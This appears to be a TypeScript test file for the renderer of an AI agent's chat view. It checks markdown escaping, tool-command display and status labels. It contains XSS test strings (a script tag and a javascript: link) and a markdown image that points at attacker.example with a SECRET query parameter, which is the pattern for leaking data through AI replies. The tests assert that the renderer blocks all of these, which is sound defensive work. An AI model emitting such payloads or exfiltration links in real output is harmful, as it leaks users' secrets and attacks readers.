import { test } from 'node:test';
import assert from 'node:assert/strict';
import { renderMarkdown } from '../src/markdown';
import { activityFor, contextLabel, inputText, toView } from '../src/view';

test('markdown renders, raw HTML is escaped and script links are dropped', () => {
  const html = renderMarkdown(
    '**Hello** `x`\n\n```sh\nls\n```\n\n<script>alert(1)</script> [a](javascript:alert(1)) [b](https://example.org)',
  );
  assert.match(html, /<strong>Hello<\/strong>/);
  assert.match(html, /<code>x<\/code>/);
  assert.match(html, /<pre><code class="language-sh">ls\n<\/code><\/pre>/);
  assert.ok(!html.includes('<script>'), html);
  assert.ok(html.includes('&lt;script&gt;'));
  assert.ok(!/href="javascript:/i.test(html), html);
  assert.match(html, /href="https:\/\/example.org"/);
});

test('an image in a reply is a link the person may follow, never loaded', () => {
  const html = renderMarkdown(
    [
      'Here: ![chart](https://attacker.example/p.png?d=SECRET "t")',
      'Ref: ![ref][r] and linked [![inner](https://a.example/i.png)](https://b.example/)',
      'Raw: <img src="https://c.example/x.png">, data: ![d](data:image/png;base64,AAAA), bare ![](https://e.example/z.gif)',
      '',
      '[r]: https://d.example/r.png',
    ].join('\n'),
  );
  assert.ok(!/<img/i.test(html), html);
  assert.match(
    html,
    /<a class="image-link" href="https:\/\/attacker.example\/p.png\?d=SECRET" title="[^"]+">\[image “chart” from attacker.example \(not loaded\)\]<\/a>/,
  );
  assert.match(html, /href="https:\/\/d.example\/r.png"/);
  assert.match(html, /href="https:\/\/a.example\/i.png"/);
  assert.match(html, /image from e.example/);
  assert.ok(html.includes('&lt;img src='), 'raw HTML stays text');
});

test('view entries carry rendered markdown, nested too', () => {
  const v = toView({
    id: 'sub:c',
    type: 'subagent',
    childSessionId: 'c',
    goal: 'g',
    status: 'completed',
    summary: '*done*',
    children: [{ id: 'a', type: 'assistant', text: '# Title', streaming: false }],
  });
  assert.match(v.summaryHtml ?? '', /<em>done<\/em>/);
  assert.match(v.children?.[0].html ?? '', /<h1>Title<\/h1>/);
});

test('tool input shows the command for run_command, JSON otherwise', () => {
  assert.equal(inputText('run_command', { command: 'rm -rf build' }), '$ rm -rf build');
  assert.equal(inputText('run_command', { command: 'make', cwd: 'sub' }), '$ make  (in sub)');
  assert.equal(inputText('read_file', { path: 'a' }), '{\n  "path": "a"\n}');
  assert.equal(inputText('x', undefined), undefined);
});

test('status line follows the turn', () => {
  const base = { sessionId: 's', turnId: 't' };
  assert.equal(activityFor({ ...base, kind: 'text', delta: 'x' }), 'Replying…');
  assert.equal(
    activityFor({ ...base, kind: 'toolCall', toolCallId: 'c', tool: 'run_command', title: 'run make', status: 'running' }),
    'Running run make…',
  );
  assert.equal(activityFor({ ...base, kind: 'approval', approvalId: 'a', status: 'asked', reason: 'r' }), 'Waiting for your approval…');
  assert.equal(activityFor({ ...base, kind: 'usage', promptTokens: 1, completionTokens: 1 }), undefined);
});

test('context labels are 1-based line ranges', () => {
  assert.equal(contextLabel('src/a.ts', 2, 9), 'src/a.ts:3-10');
  assert.equal(contextLabel('src/a.ts', 4, 4), 'src/a.ts:5');
  assert.equal(contextLabel('src/a.ts'), 'src/a.ts');
});
